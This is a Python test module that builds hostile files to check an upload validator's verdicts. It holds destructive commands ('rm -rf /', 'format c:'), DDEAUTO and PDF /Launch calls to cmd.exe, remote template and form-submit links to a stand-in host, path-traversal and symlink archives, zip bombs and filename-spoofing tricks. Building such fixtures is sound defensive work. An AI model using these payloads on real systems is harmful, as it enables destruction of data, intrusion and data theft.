"""Hostile files, made in code, and what each gets: the table of docs/files.md."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.evidence.making import (
    MZ,
    OFFICE,
    TYPES,
    WORD,
    doc,
    docx,
    fetching,
    identities,
    locked_pdf,
    mail,
    ole,
    packed,
    pdf,
    pdf_with_hidden_objects,
    picture,
    png_of,
    records,
    sample,
    slides,
    with_short_stream,
    word_95,
    written,
    xlsx,
)

PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
LINK = b"\x4c\x00\x00\x00\x01\x14\x02\x00" + bytes(60)
VBA = ole({"dir": b"x"}, storages=("VBA",))
INSTALLER = bytes.fromhex("84100c0000000000c000000000000046")
ACTION = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


@dataclass(frozen=True)
class Hostile:
    """A file, what it tries, and the key of the sentence that it gets ("": it is taken, cleaned)."""

    name: str
    what: str
    make: Callable[[], bytes]
    key: str


def linked() -> bytes:
    """An archive with a symbolic link."""
    kept, entry = io.BytesIO(), zipfile.ZipInfo("链接")
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(kept, "w") as archive:
        archive.writestr(entry, "/etc/passwd")
    return kept.getvalue()


def locked_zip() -> bytes:
    """Its entries say that they have a password."""
    plain = bytearray(packed({"材料.txt": "x"}))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        plain[plain.find(mark) + place] |= 1
    return bytes(plain)


def overlapping() -> bytes:
    """Two entries of the directory unpack the same bytes."""
    plain = packed({"a.txt": bytes(100_000)})
    start = plain.find(b"PK\x01\x02")
    directory, end = plain[start : plain.find(b"PK\x05\x06")], bytearray(plain[-22:])
    end[8:12] = struct.pack("<HH", 2, 2)
    end[12:16] = struct.pack("<I", 2 * len(directory))
    return plain[:start] + directory * 2 + bytes(end)


def lying() -> bytes:
    """Says that it unpacks to ten bytes."""
    plain = bytearray(packed({"a.txt": bytes(1_000_000)}))
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = plain.find(mark) + place
        plain[at : at + 4] = struct.pack("<I", 10)
    return bytes(plain)


def nested(levels: int) -> bytes:
    content, name = b"x", "a.txt"
    for _ in range(levels):
        content, name = packed({name: content}), "a.zip"
    return content


def xls(*those: tuple[int, bytes]) -> bytes:
    return ole({"Workbook": records((0x809, bytes(16)), *those, (0x0A, b""))})


def short_xls() -> bytes:
    """A workbook among the short streams, which lie elsewhere in the file."""
    book = records((0x809, bytes(16)), (0x85, bytes(5) + b"\x01ab"), (0x0A, b""))
    return with_short_stream("Workbook", book)


def bursting_pdf() -> bytes:
    packed_up = zlib.compress(bytes(300 * 1024**2))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    drawn = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed_up), packed_up)
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return written([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page, drawn])


def renamed(name: str, other: str) -> bytes:
    """An entry with a second name, which some programs take instead of the first (Info-ZIP's Unicode path)."""
    entry, kept = zipfile.ZipInfo(name), io.BytesIO()
    second = struct.pack("<BI", 1, zlib.crc32(name.encode())) + other.encode()
    entry.extra = struct.pack("<HH", 0x7075, len(second)) + second
    with zipfile.ZipFile(kept, "w") as archive:
        archive.writestr(entry, "x")
    return kept.getvalue()


def with_field(field: str) -> bytes:
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p>{field}</w:p></w:body></w:document>'
    return packed({"[Content_Types].xml": TYPES.format(""), "word/document.xml": body})


TEMPLATE, AWAY = f'Type="{OFFICE}attachedTemplate"', 'Target="http://elsewhere.example/a.dotm" TargetMode="External"'
DISGUISED = {
    "its kind in numbers": f'<Relationship Id="r1" Type="{OFFICE}attached&#84;emplate" {AWAY}/>',
    "its place in numbers": f'<Relationship Id="r1" {TEMPLATE} {AWAY.replace("External", "E&#120;ternal")}/>',
    "behind a sign that ends an element": f'<Relationship Id="a>b" {TEMPLATE} {AWAY}/>',
    "which pretends to lie on one's own disk": f"<Relationship Id='target=\"c:/\"' {TEMPLATE} {AWAY}/>",
    "with a prefix": f'<a-b:Relationship xmlns:a-b="relationships" Id="r1" {TEMPLATE} {AWAY}/>',
}
FIELDS = {
    "plain": "<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>",
    "in one element": '<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>',
    "in pieces": "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>",
    "when asked": "<w:r><w:instrText>DDE c:\\\\cmd.exe</w:instrText></w:r>",
}
SHUT = {
    "rar": b"Rar!\x1a\x07\x01\x00" + bytes(60),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(60),
    "gz": b"\x1f\x8b\x08" + bytes(60),
    "dat": b"\x78\x9f\x3e\x22" + bytes(60),
}


HOSTILE: tuple[Hostile, ...] = (
    # Programs and pages, whatever they are called
    Hostile("报告.pdf.exe", "a program with two endings", lambda: MZ, "evidence.kind_refused"),
    Hostile("报告.pdf", "a Windows program", lambda: MZ, "evidence.program"),
    Hostile("报告.docx", "a Linux program", lambda: b"\x7fELF" + bytes(60), "evidence.program"),
    Hostile("说明.txt", "a shell script", lambda: b"#!/bin/sh\nrm -rf /\n", "evidence.program"),
    Hostile("说明.txt", "a batch file", lambda: b"@echo off\r\nformat c:\r\n", "evidence.program"),
    Hostile("数据.csv", "a script of Windows", lambda: b'Set x = CreateObject("WScript.Shell")', "evidence.program"),
    Hostile("报告.pdf", "a shortcut (.lnk)", lambda: LINK, "evidence.program"),
    Hostile("说明.txt", "a web application (.hta)", lambda: b"<hta:application id=a>", "evidence.page"),
    Hostile("类.zip", "a Java class", lambda: b"\xca\xfe\xba\xbe" + bytes(60), "evidence.program"),
    Hostile("旧.doc", "an installer (.msi)", lambda: ole({"x": b""}, root_class=INSTALLER), "evidence.program"),
    Hostile("网页.html", "a page of the web", lambda: PAGE, "evidence.kind_refused"),
    Hostile("图.svg", "a drawing with a script", lambda: SVG, "evidence.kind_refused"),
    Hostile("图.png", "a drawing with a script, called a picture", lambda: SVG, "evidence.page"),
    Hostile("说明.txt", "a page of the web, called a text", lambda: PAGE, "evidence.page"),
    Hostile("说明.txt", "the same in UTF-16", lambda: PAGE.decode().encode("utf-16"), "evidence.page"),
    Hostile("图.jpg", "a PDF called a picture", pdf, "evidence.disguised"),
    Hostile("表.xlsx", "a text document called a table", docx, "evidence.disguised"),
    Hostile("旧.xls", "a text document of the older kind called a table", doc, "evidence.disguised"),
    Hostile("信.eml", "a text called a mail", lambda: "没有信头".encode(), "evidence.disguised"),
    # Macros
    Hostile("宏.docm", "a document with macros by its ending", docx, "evidence.kind_refused"),
    Hostile("宏.docx", "macros", lambda: docx(more={"word/vbaProject.bin": VBA}), "evidence.macros"),
    Hostile("宏.docx", "macros under another name", lambda: docx(more={"word/media/a.dat": VBA}), "evidence.macros"),
    Hostile(
        "宏.docx",
        "a document that says it has macros",
        lambda: docx(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        "evidence.macros",
    ),
    Hostile(
        "宏.xlsx",
        "macros of the old kind",
        lambda: xlsx([[1]], more={"xl/macrosheets/sheet1.xml": "<x/>"}),
        "evidence.macros",
    ),
    Hostile(
        "宏.xlsx", "macros of WPS", lambda: xlsx([[1]], more={"xl/JDEData.bin": "function a(){}"}), "evidence.macros"
    ),
    Hostile(
        "宏.docx",
        "macros that are announced in numbers",
        lambda: docx(relation='<Relationship Id="r1" Type="http://m.example/vb&#97;Project" Target="media/a.dat"/>'),
        "evidence.macros",
    ),
    Hostile("宏.xls", "macros on a sheet, in a stream as short as can be", short_xls, "evidence.macros"),
    Hostile("宏.doc", "macros, older kind", lambda: doc(storages=("Macros", "VBA")), "evidence.macros"),
    Hostile("宏.wps", "macros in a WPS text", lambda: doc(storages=("VBA",)), "evidence.macros"),
    Hostile("宏.xls", "macros on a sheet, older kind", lambda: xls((0x85, bytes(5) + b"\x01ab")), "evidence.macros"),
    Hostile(
        "宏.ppt",
        "macros in slides, older kind",
        lambda: ole({"PowerPoint Document": b"\x02\x00\x00\x04\x0c\x00\x00\x00abcd\x01\x00\x00\x00\x02\x00\x00\x00"}),
        "evidence.macros",
    ),
    # What is fetched, started or packed within
    Hostile(
        "模板.docx",
        "a template from elsewhere",
        lambda: docx(relation=fetching("attachedTemplate")),
        "evidence.fetched",
    ),
    Hostile("对象.docx", "an object from elsewhere", lambda: docx(relation=fetching("oleObject")), "evidence.fetched"),
    Hostile(
        "命令.xlsx",
        "a link that starts a program (DDE)",
        lambda: xlsx([[1]], more={"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>'}),
        "evidence.fetched",
    ),
    *(
        Hostile(
            "模板.docx",
            f"a template from elsewhere, {how}",
            lambda relation=relation: docx(relation=relation),
            "evidence.fetched",
        )
        for how, relation in DISGUISED.items()
    ),
    Hostile(
        "图片.docx",
        "a picture on a share, which learns who looks",
        lambda: docx(relation=fetching("image", "file://elsewhere.example/share/a.png")),
        "evidence.fetched",
    ),
    *(
        Hostile(
            "命令.docx",
            f"a field that starts a program, {how}",
            lambda field=field: with_field(field),
            "evidence.fetched",
        )
        for how, field in FIELDS.items()
    ),
    Hostile(
        "嵌入.docx",
        "a document of another kind that is drawn in",
        lambda: docx(
            relation=f'<Relationship Id="r1" Type="{OFFICE}aFChunk" Target="a.rtf"/>', more={"word/a.rtf": "{\\rtf1}"}
        ),
        "evidence.packed_within",
    ),
    Hostile(
        "控件.docx", "an ActiveX control", lambda: docx(more={"word/activeX/activeX1.xml": "<x/>"}), "evidence.controls"
    ),
    Hostile("程序.docx", "a program within", lambda: docx(more={"word/embeddings/a.bin": MZ}), "evidence.program"),
    Hostile(
        "附件.docx",
        "a packed file within",
        lambda: docx(more={"word/embeddings/oleObject1.bin": ole({"\x01Ole10Native": MZ})}),
        "evidence.packed_within",
    ),
    Hostile(
        "附件.doc",
        "a packed file within, older kind",
        lambda: ole({"WordDocument": b"", "\x01Ole10Native": MZ}),
        "evidence.packed_within",
    ),
    Hostile(
        "脚本.pdf", "a script that runs on opening", lambda: pdf(ACTION, catalog="/OpenAction 6 0 R"), "evidence.script"
    ),
    Hostile(
        "脚本.pdf",
        "a script, its name in numbers",
        lambda: pdf("<< /S /J#61va#53cript /J#53 (1) >>"),
        "evidence.script",
    ),
    Hostile(
        "脚本.pdf", "a script in a packed object", lambda: pdf_with_hidden_objects(ACTION.encode()), "evidence.script"
    ),
    Hostile("启动.pdf", "starts a program", lambda: pdf("<< /S /Launch /F (cmd.exe) >>"), "evidence.script"),
    Hostile(
        "附件.pdf",
        "carries a file",
        lambda: pdf("<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>"),
        "evidence.packed_within",
    ),
    Hostile(
        "脚本.pdf",
        "a form of XML with a script",
        lambda: pdf("<< /XFA (<script>app.alert\\(1\\)</script>) >>", catalog="/AcroForm 6 0 R"),
        "evidence.script",
    ),
    Hostile(
        "外联.pdf",
        "opens a document of another machine, which learns who looks",
        lambda: pdf("<< /S /GoToR /F (\\\\\\\\elsewhere\\\\a.pdf) /D [0 /Fit] >>", catalog="/OpenAction 6 0 R"),
        "evidence.script",
    ),
    Hostile(
        "外联.pdf",
        "sends what is filled in elsewhere",
        lambda: pdf("<< /S /SubmitForm /F (http://elsewhere.example/) >>", catalog="/OpenAction 6 0 R"),
        "evidence.script",
    ),
    Hostile("炸弹.pdf", "a page that unpacks to 300 MB", bursting_pdf, "evidence.bomb"),
    # Two files in one
    Hostile(
        "前置.pdf", "a PDF that does not begin at the first byte", lambda: b"GIF89a " + pdf(), "evidence.disguised"
    ),
    Hostile("尾随.pdf", "an archive behind a PDF", lambda: pdf() + packed({"a.txt": "x"}), "evidence.two_in_one"),
    Hostile("尾随.pdf", "a page behind a PDF", lambda: pdf() + PAGE, "evidence.two_in_one"),
    Hostile("尾随.pdf", "a second PDF behind", lambda: pdf() + pdf(), "evidence.two_in_one"),
    Hostile(
        "尾随.png", "an archive behind a picture", lambda: picture() + packed({"a.txt": "x"}), "evidence.two_in_one"
    ),
    Hostile("尾随.jpg", "a program behind a picture", lambda: picture("JPEG") + MZ, "evidence.two_in_one"),
    Hostile("尾随.gif", "a PDF behind a picture", lambda: picture("GIF") + pdf(), "evidence.two_in_one"),
    Hostile("尾随.bmp", "a program behind a picture", lambda: picture("BMP") + MZ, "evidence.two_in_one"),
    Hostile(
        "注释.jpg",
        "a script in a picture's comment",
        lambda: picture("JPEG", comment=b"<script>alert(1)</script>"),
        "evidence.two_in_one",
    ),
    Hostile(
        "前置.zip",
        "two archives glued together",
        lambda: packed({"a.txt": "x"}) + packed({"b.txt": "y"}),
        "evidence.two_in_one",
    ),
    Hostile("尾随.zip", "a program behind an archive", lambda: packed({"a.txt": "x"}) + MZ, "evidence.two_in_one"),
    # Archives and bombs
    Hostile("程序.zip", "a program", lambda: packed({"工具.exe": MZ}), "evidence.program"),
    Hostile("程序.zip", "a program under another name", lambda: packed({"照片.jpg": MZ}), "evidence.program"),
    Hostile("脚本.zip", "a script", lambda: packed({"启动.vbs": "x"}), "evidence.program"),
    Hostile(
        "网页.zip", "a drawing with a script, called a picture", lambda: packed({"图.png": SVG}), "evidence.program"
    ),
    Hostile(
        "宏.zip",
        "a document with macros",
        lambda: packed({"a.docx": docx(more={"word/vbaProject.bin": VBA})}),
        "evidence.macros",
    ),
    *(
        Hostile(
            "别的.zip",
            f"an archive of another make ({make})",
            lambda make=make: packed({f"a.{make}": SHUT[make]}),
            "evidence.packed_oddly",
        )
        for make in SHUT
    ),
    Hostile(
        "别的.eml", "an archive of another make attached", lambda: mail({"a.rar": SHUT["rar"]}), "evidence.packed_oddly"
    ),
    Hostile(
        "表.zip", "a table that may have macros by its ending", lambda: packed({"a.xlsb": b"x"}), "evidence.program"
    ),
    Hostile(
        "改名.zip", "a second name, which is a script's", lambda: renamed("说明.txt", "启动.vbs"), "evidence.outside"
    ),
    Hostile(
        "改名.zip",
        "a second name, which leaves its folder",
        lambda: renamed("说明.txt", "../../a.txt"),
        "evidence.outside",
    ),
    Hostile("程序.eml", "a program attached", lambda: mail({"工具.exe": MZ}), "evidence.program"),
    Hostile("程序.eml", "a program attached under another name", lambda: mail({"工具.pdf": MZ}), "evidence.program"),
    Hostile(
        "宏.eml",
        "a document with macros in an archive attached",
        lambda: mail({"a.zip": packed({"a.doc": doc(storages=("VBA",))})}),
        "evidence.macros",
    ),
    Hostile(
        "炸弹.zip",
        "unpacks to a thousand times its size",
        lambda: packed({"a.txt": bytes(60 * 1024**2)}),
        "evidence.bomb",
    ),
    Hostile("炸弹.zip", "unpacks to more than it says", lying, "evidence.bomb"),
    Hostile("炸弹.zip", "entries that lie on each other", overlapping, "evidence.bomb"),
    Hostile("套娃.zip", "archives in archives in archives", lambda: nested(6), "evidence.too_deep"),
    Hostile(
        "炸弹.docx",
        "a document that unpacks without end",
        lambda: docx(more={"word/a.xml": bytes(60 * 1024**2)}),
        "evidence.bomb",
    ),
    Hostile("路径.zip", "leaves its folder", lambda: packed({"../../etc/cron.d/a": "x"}), "evidence.outside"),
    Hostile("路径.zip", "names a place of the disk", lambda: packed({"C:\\Windows\\a.txt": "x"}), "evidence.outside"),
    Hostile("路径.zip", "names a device", lambda: packed({"a/CON.txt": "x"}), "evidence.outside"),
    Hostile("链接.zip", "a symbolic link", linked, "evidence.outside"),
    Hostile(
        "过多.zip",
        "ten thousand files and one",
        lambda: packed({f"{n}": b"" for n in range(10_001)}),
        "evidence.too_many_inside",
    ),
    Hostile("加密.zip", "a password", locked_zip, "evidence.locked"),
    Hostile(
        "加密.docx", "a password", lambda: ole({"EncryptedPackage": b"", "EncryptionInfo": b""}), "evidence.locked"
    ),
    Hostile("加密.xls", "a password, older kind", lambda: xls((0x2F, bytes(6))), "evidence.locked"),
    Hostile("加密.pdf", "a password", locked_pdf, "evidence.locked"),
    Hostile(
        "少见.zip",
        "packed in an unusual way",
        lambda: packed({"a.txt": "x"}, method=zipfile.ZIP_LZMA),
        "evidence.packed_oddly",
    ),
    Hostile(
        "巨图.png",
        "says it has ten thousand million pixels",
        lambda: png_of(100_000, 100_000),
        "evidence.too_many_pixels",
    ),
    # Broken and empty
    Hostile("空.pdf", "nothing", lambda: b"", "evidence.empty"),
    Hostile("坏.pdf", "no PDF but for its head", lambda: b"%PDF-1.7\n" + b"x" * 500, "evidence.broken"),
    Hostile("坏.xlsx", "no archive but for its head", lambda: b"PK\x03\x04 no archive", "evidence.broken"),
    Hostile("坏.png", "no picture but for its head", lambda: b"\x89PNG\r\n\x1a\n" + bytes(50), "evidence.broken"),
    # Names
    Hostile("报\r\n告.txt", "control characters in the name", lambda: b"x", "evidence.name_tricks"),
    Hostile(
        "报告\u202etxt.exe", "letters turned round, so that an ending is hidden", lambda: b"x", "evidence.name_tricks"
    ),
    Hostile("CON.txt", "the name of a device", lambda: b"x", "evidence.name_device"),
    Hostile("长" * 300 + ".txt", "a name of 300 characters", lambda: b"x", "evidence.name_too_long"),
    Hostile("无扩展名", "no ending", lambda: b"x", "evidence.kind_refused"),
    Hostile("../../etc/报告.txt", "a path in the name", lambda: b"x", ""),
    Hostile("报告.txt. . ", "dots and spaces behind the name", lambda: b"x", ""),
    Hostile("e\u0301tude.txt", "a name in another normal form", lambda: b"x", ""),
    # What a person is asked about
    Hostile("机密★10年.txt", "a secrecy mark in the name", lambda: b"x", "doubt.secrecy_mark"),
    Hostile("方案.docx", "a secrecy mark in the words", lambda: docx("秘密★5年"), "doubt.secrecy_mark"),
    Hostile(
        "方案.txt", "a secrecy mark that is announced", lambda: "密级：机密".encode("gb18030"), "doubt.secrecy_mark"
    ),
    Hostile(
        "清单.doc",
        "a secrecy mark in a text of the older kind",
        lambda: sample("photovoltaics.doc"),
        "doubt.secrecy_mark",
    ),
    Hostile(
        "清单.xls",
        "a secrecy mark in the header of a table, older kind",
        lambda: sample("photovoltaics.xls"),
        "doubt.secrecy_mark",
    ),
    Hostile("汇报.ppt", "a secrecy mark in slides, older kind", lambda: slides("绝密★", "进展"), "doubt.secrecy_mark"),
    Hostile(
        "名单.doc", "six identity numbers, older kind", lambda: word_95("\r".join(identities(6))), "doubt.identities"
    ),
    Hostile("照片.heic", "a photo that is none", lambda: sample("roof.heic")[:100], "evidence.broken"),
    Hostile(
        "照片.heic",
        "a photo with too many pixels",
        lambda: sample("roof.heic").replace(struct.pack(">II", 400, 300), struct.pack(">II", 20_000, 20_000)),
        "evidence.too_many_pixels",
    ),
    Hostile("名单.csv", "six identity numbers", lambda: "\n".join(identities(6)).encode(), "doubt.identities"),
    Hostile(
        "名单.xlsx", "six identity numbers in a table", lambda: xlsx([[n] for n in identities(6)]), "doubt.identities"
    ),
)
